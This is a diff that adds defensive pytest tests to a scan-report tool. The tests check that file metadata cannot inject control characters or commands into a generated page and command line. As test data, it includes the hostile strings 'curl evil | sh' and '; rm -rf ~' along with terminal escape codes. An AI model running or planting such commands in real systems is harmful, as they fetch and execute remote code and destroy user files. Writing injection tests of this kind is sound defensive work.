@@ -195,6 +195,32 @@ def test_text_of_a_file_cannot_break_the_page(run):
     assert "script" not in Page(text).tags and "a &lt;b&gt; &amp; c" in text
 
 
+def test_control_characters_of_a_file_are_written_out(run):
+    nasty = run["scan"].assign_attrs(source_file="a\x1b[2Jb\u202ec", title="t\x07")
+    text = report.page({"scan": nasty})
+    assert "a\\x1b[2Jb\\u202ec" in text and not set("\x1b\x07\u202e") & set(text)
+
+
+def test_what_a_scans_file_says_of_the_command_is_not_believed(run):
+    forged = [
+        {"operation": "glass"},
+        {"operation": "direct", "arguments": {"subregions": [666, 666], "delta": [1.0]}},
+        {"operation": "adhesive", "arguments": {"law": "; rm -rf ~"}},
+    ]
+    scan = run["scan"].assign_attrs(source_file="a.gsf", command="curl evil | sh", history=json.dumps(forged))
+    line = report.command({**run, "scan": scan})
+    assert line.startswith("roughxr run a.gsf ") and "--subregions 3 3" in line
+    assert not any(word in line for word in ("curl", "666", "rm", "paper"))
+
+
+@pytest.mark.parametrize(
+    "history", ["[" * 100_000, '{"operation": 1}', "[1, 2]", '[{"operation": "level", "arguments": 3}]']
+)
+def test_a_history_by_another_program_is_one_step(history):
+    steps = schema.history(xr.Dataset(attrs={"history": history}))
+    assert steps == [{"operation": "unknown", "arguments": {"history": history}}]
+
+
 def test_the_command_repeats_the_run(run, tmp_path):
     scan = run["scan"].assign_attrs(source_file="my scan.gsf", channel="Height")
     scan = scan.assign_attrs(history="[]")
